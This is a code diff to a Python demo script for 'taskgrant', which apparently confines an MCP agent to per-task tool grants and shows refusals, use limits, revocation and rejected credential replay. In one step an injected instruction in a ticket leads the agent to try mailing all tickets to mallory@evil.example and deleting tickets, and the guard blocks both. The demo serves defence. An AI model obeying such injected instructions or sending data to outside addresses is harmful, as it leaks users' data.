@@ -1,6 +1,8 @@
 """The demo's story, told by an agent that is an unmodified MCP client, connected once, and its orchestrator."""
 
 import asyncio
+import json
+import signal
 import ssl
 from typing import Any
 
@@ -21,6 +23,7 @@ from taskgrant.model.credential import Issued
 _ALICE = "alice@example.org"
 _MALLORY = "mallory@evil.example"
 _PAGES = 100
+_STOPPED_SECONDS = 10
 _MCP = "io.modelcontextprotocol"
 
 _GRANTS: list[dict[str, Any]] = [
@@ -49,6 +52,8 @@ _GRANTS: list[dict[str, Any]] = [
 
 def play() -> int:
     telling = Telling()
+    # However we are asked to end, what was started ends with us.
+    signal.signal(signal.SIGTERM, lambda *_: signal.raise_signal(signal.SIGINT))
     try:
         telling.note("starting a tool server, a guard in front of it, and the sidecar with its OPA …")
         with stage() as parts:
@@ -57,7 +62,7 @@ def play() -> int:
         telling.console.print("\ninterrupted; everything that was started has been stopped")
         return 130
     except TaskgrantError as fault:
-        telling.console.print(f"[red]{fault}[/red]")
+        telling.fail(str(fault))
         return 1
     telling.console.print()
     if telling.differences:
@@ -95,8 +100,7 @@ class Story:
     async def _no_task(self, agent: Client) -> None:
         self._telling.step("The agent connects. It has no task, so it has nothing.")
         self._telling.check("tools that it sees", [], await _tools(agent))
-        refused = await self._call(agent, "read_ticket", {"number": 7})
-        self._telling.check("a call is", "no_task", refused)
+        await self._try("a call of read_ticket", "no_task", agent, "read_ticket", {"number": 7})
 
     async def _granted(self, orchestrator: TaskgrantClient, agent: Client) -> str:
         self._telling.step("The orchestrator starts a task with two grants.")
@@ -104,17 +108,15 @@ class Story:
             {"purpose": "answer ticket 7", "grants": _GRANTS, "expires_in": 600}
         )
         for grant in started.grants:
-            limit = f", {grant.max_uses} use" if grant.max_uses is not None else ""
-            self._telling.note(f"{grant.id}: {', '.join(grant.tools)}{limit}")
+            uses = "any number of uses" if grant.max_uses is None else f"uses: {grant.max_uses}"
+            self._telling.note(f"{grant.id}: {', '.join(grant.tools)}; {uses}")
         expected = ["export_tickets", "read_ticket", "send_mail"]
         self._telling.check("tools that the same connection sees now", expected, await _tools(agent))
         return started.task.id
 
     async def _allowed(self, agent: Client) -> None:
         self._telling.step("It does its work. Only now is a credential minted, for this task alone.")
-        self._telling.check(
-            "read_ticket 7 is", "allowed", await self._call(agent, "read_ticket", {"number": 7})
-        )
+        await self._try("read_ticket 7", "allowed", agent, "read_ticket", {"number": 7})
         shown = str(self._stage.journal()[-1]["serial"])
         issued = [record["serial"] for record in self._audit() if record["event"] == "credential.issued"]
         self._telling.note(f"the tool server was shown the certificate {shown}")
@@ -122,24 +124,19 @@ class Story:
 
     async def _injected(self, agent: Client) -> None:
         self._telling.step("A ticket carries an injected instruction, and the agent obeys it.")
-        before = len(self._stage.journal()) + 1
-        self._telling.check(
-            "read_ticket 8 is", "allowed", await self._call(agent, "read_ticket", {"number": 8})
-        )
+        await self._try("read_ticket 8", "allowed", agent, "read_ticket", {"number": 8})
+        before = len(self._stage.journal())
         mail = {"to": _MALLORY, "subject": "all tickets"}
-        self._telling.check(
-            "send_mail to mallory is", "arguments_refused", await self._call(agent, "send_mail", mail)
-        )
-        self._telling.check("delete_tickets is", "no_grant", await self._call(agent, "delete_tickets", {}))
-        self._telling.check("calls that reached the tool server since", before, len(self._stage.journal()))
+        await self._try("send_mail to mallory", "arguments_refused", agent, "send_mail", mail)
+        await self._try("delete_tickets", "no_grant", agent, "delete_tickets", {})
+        reached = len(self._stage.journal()) - before
+        self._telling.check("of these two calls, the tool server has seen", 0, reached)
 
     async def _used_up(self, agent: Client) -> None:
         self._telling.step("A grant of one use is used once.")
         mail = {"to": _ALICE, "subject": "your ticket"}
-        self._telling.check(
-            "the first send_mail to alice is", "allowed", await self._call(agent, "send_mail", mail)
-        )
-        self._telling.check("the second is", "uses_exhausted", await self._call(agent, "send_mail", mail))
+        await self._try("the first send_mail to alice", "allowed", agent, "send_mail", mail)
+        await self._try("the second", "uses_exhausted", agent, "send_mail", mail)
         sent = [call for call in self._stage.journal() if call["tool"] == "send_mail"]
         self._telling.check("mails that the tool server sent", 1, len(sent))
 
@@ -152,7 +149,7 @@ class Story:
             task, SERVER, key.csr(agent_id(self._stage.trust_domain, "researcher"))
         )
         copy = Copy(self._stage, issued, client_context(issued.certificate, key, issued.bundle))
-        self._telling.check("while the task runs, the guard answers it with", 200, await copy.replay())
+        self._telling.check("while the task runs, the guard's status is", 200, await copy.replay())
         return copy
 
     async def _cut(self, orchestrator: TaskgrantClient, agent: Client, task: str) -> None:
@@ -163,21 +160,34 @@ class Story:
             if page >= 2:
                 streaming.set()
 
-        call = asyncio.create_task(self._call(agent, "export_tickets", {"pages": _PAGES}, progress))
-        await asyncio.wait_for(streaming.wait(), 30)
-        ended = await orchestrator.complete(task)
-        self._telling.note(
-            f"complete has returned; guards that did not acknowledge: {list(ended.unacknowledged) or 'none'}"
-        )
-        self._telling.check("the streaming call ends as", "outcome_unknown", await call)
-        pages = [entry for entry in self._stage.journal() if "page" in entry]
-        self._telling.check(f"the tool server was stopped before page {_PAGES}", True, len(pages) < _PAGES)
+        async with asyncio.TaskGroup() as running:
+            call = running.create_task(self._call(agent, "export_tickets", {"pages": _PAGES}, progress))
+            await asyncio.wait_for(streaming.wait(), 30)
+            self._telling.note(
+                f"export_tickets is at page 2 of {_PAGES}; the orchestrator completes the task"
+            )
+            ended = await orchestrator.complete(task)
+        code, said = call.result()
+        self._telling.check("guards that have not acknowledged it", [], list(ended.unacknowledged))
+        self._telling.check("the streaming call ends", "outcome_unknown", code)
+        self._telling.quote(said)
+        self._telling.check(f"the tool was stopped before page {_PAGES}", True, await self._stopped())
         self._telling.check("tools that the agent sees now", [], await _tools(agent))
-        self._telling.check("a call is", "no_task", await self._call(agent, "read_ticket", {"number": 7}))
+        await self._try("a call of read_ticket", "no_task", agent, "read_ticket", {"number": 7})
+
+    async def _stopped(self) -> bool:
+        """Whether the tool itself has noted, soon, that its work was given up."""
+        try:
+            async with asyncio.timeout(_STOPPED_SECONDS):
+                while not any(entry.get("stopped") for entry in self._stage.journal()):  # noqa: ASYNC110
+                    await asyncio.sleep(0.05)  # another process writes it
+        except TimeoutError:
+            return False
+        return all(entry.get("page") != _PAGES for entry in self._stage.journal())
 
     async def _replayed(self, copied: "Copy") -> None:
         self._telling.step("The copy is replayed at the guard, past the sidecar.")
-        self._telling.check("the guard answers with", 401, await copied.replay())
+        self._telling.check("the guard's status is", 401, await copied.replay())
         self._telling.note(f"it says: {copied.said}")
 
     async def _again(self, orchestrator: TaskgrantClient, agent: Client) -> str:
@@ -185,13 +195,9 @@ class Story:
         spec = {"purpose": "answer ticket 8", "grants": [{**_GRANTS[1], "max_uses": 2}], "expires_in": 600}
         started = await orchestrator.start(spec)
         self._telling.check("tools that it sees", ["export_tickets", "read_ticket"], await _tools(agent))
-        self._telling.check(
-            "read_ticket 8 is", "allowed", await self._call(agent, "read_ticket", {"number": 8})
-        )
+        await self._try("read_ticket 8", "allowed", agent, "read_ticket", {"number": 8})
         serials = {str(call["serial"]) for call in self._stage.journal()}
-        self._telling.check(
-            "certificates that the tool server has been shown by now, one a task", 2, len(serials)
-        )
+        self._telling.check("certificates that the tool server has been shown, one a task", 2, len(serials))
         await orchestrator.complete(started.task.id)
         return started.task.id
 
@@ -211,14 +217,22 @@ class Story:
 
     # -- how they are done -------------------------------------------------------------------------------------
 
-    async def _call(self, agent: Client, tool: str, arguments: dict[str, Any], progress: Any = None) -> str:
-        """Calls a tool as any client does; "allowed", or the code of the denial, whose text is shown."""
+    async def _try(
+        self, what: str, expected: str, agent: Client, tool: str, arguments: dict[str, Any]
+    ) -> None:
+        """A call, how it ended, and the text of a denial."""
+        code, said = await self._call(agent, tool, arguments)
+        self._telling.check(what, expected, code)
+        if code != "allowed":
+            self._telling.quote(said)
+
+    async def _call(
+        self, agent: Client, tool: str, arguments: dict[str, Any], progress: Any = None
+    ) -> tuple[str, str]:
+        """Calls a tool as any client does: "allowed" or the code of the denial, and the text that came back."""
         result = await agent.call_tool(tool, arguments, progress_callback=progress)
-        code = (result.meta or {}).get("taskgrant/code")
-        if code is None:
-            return "allowed"
-        self._telling.quote(getattr(result.content[0], "text", ""))
-        return str(code)
+        code = (result.meta or {}).get("taskgrant/code", "allowed")
+        return str(code), getattr(result.content[0], "text", "")
 
     def _audit(self) -> list[dict[str, Any]]:
         return list(tail(self._stage.audit, follow=False))
@@ -248,8 +262,17 @@ class Copy:
         async with aiohttp.ClientSession() as session:
             asked = session.post(url, json=body, headers=headers, ssl=self._context, server_hostname=name)
             async with asked as answer:
-                self.said = (await answer.text()).strip()
+                self.said = _detail(await answer.text())
                 return answer.status
+
+
+def _detail(body: str) -> str:
+    """What a problem document says (RFC 9457); any other body as it is."""
+    try:
+        problem = json.loads(body)
+        return f"{problem['detail']} ({problem['code']})"
+    except (ValueError, LookupError, TypeError):
+        return body.strip()
 
 
 async def _tools(agent: Client) -> list[str]:
